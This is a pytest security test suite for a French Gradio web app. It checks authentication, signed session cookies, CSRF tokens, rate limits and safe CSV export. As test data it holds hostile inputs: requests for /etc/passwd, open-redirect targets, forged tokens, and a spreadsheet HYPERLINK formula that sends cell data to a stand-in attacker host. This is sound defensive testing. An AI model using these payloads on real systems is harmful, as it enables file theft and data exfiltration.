"""Advisor and network routes refuse every unauthenticated request, over plain HTTP.

Checked on the real app in a subprocess (both layers), and on an in-process app without the
session middleware, to record what Gradio 6 enforces by itself.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest
from ui_fixtures import PASSWORD, copy_index, forget_limits, settings_for
from web_client import login, logout
from fastapi.testclient import TestClient

from assistant.insights.exports import FORMULA_STARTS
from assistant.compose import review_service
from assistant.review.store import utcnow
from assistant.ui.auth import COOKIE, CSRF_COOKIE, PROTECTED, SessionCookies
from assistant.compose import web_app

#: Requests a client could make to a protected app: pages, Gradio's API, files, uploads, streams.
REQUESTS = [
    ("GET", "{p}", None),
    ("GET", "{p}/", None),
    ("GET", "{p}/config", None),
    ("GET", "{p}/gradio_api/info", None),
    ("GET", "{p}/gradio_api/openapi.json", None),
    ("POST", "{p}/gradio_api/queue/join", {"data": [None], "fn_index": 0, "session_hash": "attaquant"}),
    ("POST", "{p}/gradio_api/queue/join", {"data": [7], "fn_index": 3, "session_hash": "attaquant"}),
    ("GET", "{p}/gradio_api/queue/data?session_hash=attaquant", None),
    ("POST", "{p}/gradio_api/call/on_open", {"data": [1]}),
    ("POST", "{p}/gradio_api/run/predict", {"data": []}),
    ("POST", "{p}/gradio_api/api/predict", {"data": []}),
    ("GET", "{p}/gradio_api/file=/etc/passwd", None),
    ("POST", "{p}/gradio_api/upload", "files"),
    ("GET", "{p}/gradio_api/heartbeat/attaquant", None),
    ("GET", "{p}/gradio_api/startup-events", None),
    ("GET", "{p}/gradio_api/user", None),
    ("GET", "{p}/gradio_api/token", None),
    ("POST", "{p}/gradio_api/cancel", {"event_id": "x", "session_hash": "attaquant", "fn_index": 0}),
    ("GET", "{p}/gradio_api/mcp/sse", None),
    ("GET", "{p}/theme.css", None),
    ("GET", "{p}/une-route-future", None),
    ("GET", "{p}/export/sujets.csv", None),
    ("GET", "{p}/export/sujets.csv?periode=Depuis%20le%20d%C3%A9but", None),
]


def _send(client: httpx.Client, method: str, path: str, body, **kwargs) -> httpx.Response:
    if body == "files":
        return client.request(method, path, files={"files": ("a.txt", b"bonjour")}, **kwargs)
    return client.request(method, path, json=body, **kwargs)


def _cookie(token: str) -> dict[str, str]:
    return {"cookie": f"{COOKIE}={token}"}


def _refused(response: httpx.Response, prefix: str) -> bool:
    if response.status_code == 401:
        return True
    # A browser asking for the page itself is sent to the login form.
    location = urlsplit(response.headers.get("location", ""))
    return response.status_code == 303 and location.path == "/connexion" and \
        parse_qs(location.query) == {"suite": [prefix + "/"]}


@pytest.mark.parametrize("prefix", PROTECTED)
@pytest.mark.parametrize("method, template, body", REQUESTS)
def test_protected_routes_refuse_anonymous_requests(server, prefix, method, template, body):
    path = template.format(p=prefix)
    with httpx.Client(base_url=server.url, timeout=10) as client:
        response = _send(client, method, path, body)
        assert _refused(response, prefix), f"{method} {path} answered {response.status_code}: {response.text[:200]}"
        forged = _send(client, method, path, body, headers=_cookie("alice"))
        assert _refused(forged, prefix), f"{method} {path} accepted a forged cookie"


def test_session_cookies_must_be_signed_by_the_server_and_fresh(server):
    key = (server.home / "ui-session.key").read_bytes()
    service = server.service()
    past = review_service(settings_for(server.home), clock=lambda: utcnow() - timedelta(hours=11))
    try:
        cookies = SessionCookies(key, service.sessions)
        good, bobs = cookies.issue("alice"), cookies.issue("bob")
        expired = SessionCookies(key, past.sessions).issue("alice")  # opened 11 h ago: over its 10 h
        other_key = SessionCookies(b"k" * 32, service.sessions).issue("alice")  # a real session, wrong key
    finally:
        past.close()
        service.close()
    session_id = good.split(".")[0]
    tampered = session_id + "." + "0" * 64
    swapped = session_id + "." + bobs.split(".")[1]  # bob's signature on alice's session
    with httpx.Client(base_url=server.url, timeout=10) as client:
        assert client.get("/conseiller/config", headers=_cookie(good)).status_code == 200
        for token in (expired, other_key, tampered, swapped, session_id, "", "a.b", "%00" * 4):
            response = client.get("/conseiller/config", headers=_cookie(token))
            assert response.status_code == 401, f"token {token!r} was accepted"


def test_login_logout_and_cookie_attributes(server):
    with httpx.Client(base_url=server.url, timeout=30) as client:
        page = client.get("/connexion")
        assert page.status_code == 200 and 'lang="fr"' in page.text and "Se connecter" in page.text
        wrong = login(client, password="mauvais mot de passe")
        assert wrong.status_code == 401 and "Nom ou mot de passe incorrect." in wrong.text
        unknown = login(client, name="mallory")
        assert unknown.status_code == 401 and unknown.text == wrong.text, "same answer for unknown names"
        assert COOKIE not in client.cookies
        ok = login(client, suite="/reseau/")
        assert ok.status_code == 303 and ok.headers["location"] == "/reseau/"
        cookie = ok.headers["set-cookie"].lower()
        assert "httponly" in cookie and "samesite=strict" in cookie and "max-age=" in cookie, cookie
        assert client.get("/conseiller/config").status_code == 200
        assert client.get("/reseau/gradio_api/info").status_code == 200
        token = client.cookies[COOKIE]
        csrf = [c for c in ok.headers.get_list("set-cookie") if c.startswith(CSRF_COOKIE)] or \
            [c for c in page.headers.get_list("set-cookie") if c.startswith(CSRF_COOKIE)]
        assert csrf and "httponly" in csrf[0].lower() and "samesite=strict" in csrf[0].lower(), csrf
        shown = client.get("/deconnexion")
        assert shown.status_code == 200 and "se-deconnecter" in shown.text, "GET only shows the logout button"
        assert client.get("/conseiller/config").status_code == 200, "a GET never logs out"
        out = logout(client)
        assert out.status_code == 303 and out.headers["location"] == "/connexion"
        client.cookies.clear()
        replay = client.get("/conseiller/config", headers=_cookie(token))
        assert replay.status_code == 401, "a logged-out session cannot be replayed"


@pytest.mark.parametrize("suite", ["https://pirate.example/", "//pirate.example", "/conseiller/../../x", "/"])
def test_login_never_redirects_elsewhere(server, suite):
    with httpx.Client(base_url=server.url, timeout=30) as client:
        response = login(client, suite=suite)
        assert response.status_code == 303 and response.headers["location"] == "/conseiller/", \
            f"suite={suite!r} redirected to {response.headers.get('location')}"


def test_buyer_side_is_open_and_exposes_only_the_question_endpoint(server):
    with httpx.Client(base_url=server.url, timeout=10) as client:
        page = client.get("/")
        assert page.status_code == 200
        for header, value in (("referrer-policy", "no-referrer"), ("x-content-type-options", "nosniff"),
                              ("x-frame-options", "DENY")):
            assert page.headers.get(header) == value, f"{header} missing on the buyer page"
        info = client.get("/gradio_api/info").json()
        assert list(info["named_endpoints"]) == ["/poser"], f"public endpoints: {list(info['named_endpoints'])}"
        config = client.get("/config").text
        for name in ("on_open", "on_validate", "Valider et envoyer", "alice"):
            assert name not in config, f"the buyer app config mentions {name!r}"


@pytest.mark.parametrize("method, path", [
    ("GET", "/gradio_api/file=/etc/passwd"), ("GET", "/gradio_api/file=/tmp/gradio/x/sujets.csv"),
    ("GET", "/file=/etc/passwd"), ("POST", "/gradio_api/upload"), ("GET", "/gradio_api/proxy=http://x"),
])
def test_the_open_app_serves_no_file(server, method, path):
    """Gradio's file server reads a cache all three apps share: it is closed on the open app."""
    response = httpx.request(method, server.url + path, timeout=10)
    assert response.status_code == 404, f"{method} {path} answered {response.status_code}"


def test_topics_export_needs_a_login_and_leaves_no_file(server):
    with httpx.Client(base_url=server.url, timeout=30) as client:
        assert login(client).status_code == 303
        response = client.get("/reseau/export/sujets.csv", params={"periode": "Depuis le début"})
        assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
        assert "attachment" in response.headers["content-disposition"]
        assert response.content.decode("utf-8-sig").startswith("sujet,questions,identifiants,exemples")
        assert client.get("/reseau/export/sujets.csv", params={"periode": "hier"}).status_code == 400


def test_buyer_rate_limit_per_session_over_http(server):
    """Five questions a minute per browser session (the server runs with --questions-per-minute 5)."""
    config = httpx.get(f"{server.url}/config", timeout=10).json()
    ask = next(d for d in config["dependencies"] if d.get("api_name") == "poser")
    notices = []
    with httpx.Client(base_url=server.url, timeout=60) as client:
        for i in range(6):
            joined = client.post("/gradio_api/queue/join", json={
                "data": [f"Question {i} : exiger un label ?", "", "", None, None], "event_data": None,
                "fn_index": ask["id"], "trigger_id": ask["targets"][0][0], "session_hash": "acheteur-pressé"})
            assert joined.status_code == 200, joined.text
            with client.stream("GET", "/gradio_api/queue/data?session_hash=acheteur-pressé") as stream:
                for line in stream.iter_lines():
                    message = json.loads(line[5:]) if line.startswith("data:") else {}
                    if message.get("msg") == "process_completed":
                        notices.append(message["output"]["data"][-1])
                        break
    assert notices[:5] == [""] * 5, f"the first five questions are accepted: {notices}"
    assert "beaucoup de questions en peu de temps" in notices[5], f"the sixth is refused: {notices[5]!r}"


@pytest.fixture(scope="module")
def bare_app_module(index_template, tmp_path_factory):
    """The app in-process WITHOUT the session middleware (shared by the module: use `bare_app`)."""
    home = copy_index(index_template, tmp_path_factory.mktemp("bare-home"))
    app = web_app(settings_for(home), guard=False)
    app.state.desk.review.add_advisor("alice", PASSWORD)
    app.state.desk.review.add_advisor("bob", PASSWORD)
    with TestClient(app, follow_redirects=False) as client:
        yield client


@pytest.fixture
def bare_app(bare_app_module):
    """What Gradio enforces on its own; no failed login left by an earlier test, no cookie."""
    forget_limits(bare_app_module.app.state.desk.home)
    bare_app_module.cookies.clear()
    yield bare_app_module
    bare_app_module.cookies.clear()


#: Gradio 6.31 refuses these without a login by itself (its `login_check` dependency).
GRADIO_ENFORCED = [r for r in REQUESTS if r[1] not in (
    "{p}/gradio_api/heartbeat/attaquant", "{p}/gradio_api/startup-events", "{p}/gradio_api/user",
    "{p}/gradio_api/token", "{p}/gradio_api/cancel", "{p}/theme.css", "{p}/une-route-future",
    "{p}/gradio_api/mcp/sse", "{p}", "{p}/export/sujets.csv",
    "{p}/export/sujets.csv?periode=Depuis%20le%20d%C3%A9but")]


@pytest.mark.parametrize("prefix", PROTECTED)
@pytest.mark.parametrize("method, template, body", GRADIO_ENFORCED)
def test_gradio_alone_refuses_its_page_and_api(bare_app, prefix, method, template, body):
    path = template.format(p=prefix)
    if body == "files":
        response = bare_app.request(method, path, files={"files": ("a.txt", b"bonjour")})
    else:
        response = bare_app.request(method, path, json=body)
    assert response.status_code == 401, f"Gradio alone let {method} {path} through: {response.status_code}"


def test_export_checks_the_session_by_itself(bare_app):
    assert bare_app.get("/reseau/export/sujets.csv").status_code == 401


def test_gradio_alone_leaves_harmless_routes_open(bare_app):
    """Recorded so that a Gradio upgrade that changes this is noticed; the middleware covers them."""
    assert bare_app.get("/conseiller/gradio_api/startup-events").status_code == 200
    assert bare_app.get("/conseiller/gradio_api/user").json() is None
    assert bare_app.post("/conseiller/gradio_api/cancel",
                         json={"event_id": "x", "session_hash": "x", "fn_index": 0}).status_code == 200


def test_login_is_throttled_per_account(bare_app):
    for _ in range(5):
        assert login(bare_app, password="mauvais mot de passe").status_code == 401
    blocked = login(bare_app)
    assert blocked.status_code == 429 and "Trop de tentatives pour ce compte" in blocked.text, \
        "after 5 failures even the right password waits"
    assert int(blocked.headers["retry-after"]) >= 1
    assert login(bare_app, name="bob").status_code == 303, "another account is not held up"


def test_a_formula_typed_as_a_question_reaches_the_csv_export_as_text(bare_app):
    """Issue #15, item 4: a question '=HYPERLINK(...)' landed at the start of a CSV cell."""
    attack = '=HYPERLINK("http://pirate.example/?q="&A2;"Voir la réponse")'
    bare_app.app.state.desk.ask(attack, session="acheteur")  # alone in its group: the first example
    assert login(bare_app).status_code == 303
    export = bare_app.get("/reseau/export/sujets.csv", params={"periode": "Depuis le début"})
    assert export.headers["content-disposition"] == 'attachment; filename="sujets-recurrents-depuis-le-debut.csv"'
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert any(cell.startswith("'" + attack) for cell in cells), f"the question is exported as text: {rows}"
    starts = [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA_STARTS)]
    assert starts == [], f"cells a spreadsheet would run as formulas: {starts}"


def test_login_and_logout_posts_need_the_forms_csrf_token(server):
    """Issue #15, item 6, without the Origin check: a post lacking the form's token changes nothing."""
    with httpx.Client(base_url=server.url, timeout=60) as client:
        client.get("/connexion")  # the CSRF cookie, as a visitor of the login page has it
        for token in ("", "x" * 43):
            forged = client.post("/connexion", data={"nom": "alice", "mot_de_passe": PASSWORD, "jeton": token})
            assert forged.status_code == 403 and "Le formulaire a expiré" in forged.text, forged.status_code
            assert COOKIE not in client.cookies, "a login without the form's token opened a session"
        assert login(client).status_code == 303
        session = client.cookies[COOKIE]
        forged = client.post("/deconnexion", data={"jeton": "x" * 43})
        assert forged.status_code == 403
        assert client.get("/conseiller/config").status_code == 200, "a logout without the token ends nothing"
        assert logout(client).status_code == 303
    assert httpx.get(f"{server.url}/conseiller/config", cookies={COOKIE: session}, timeout=30).status_code == 401
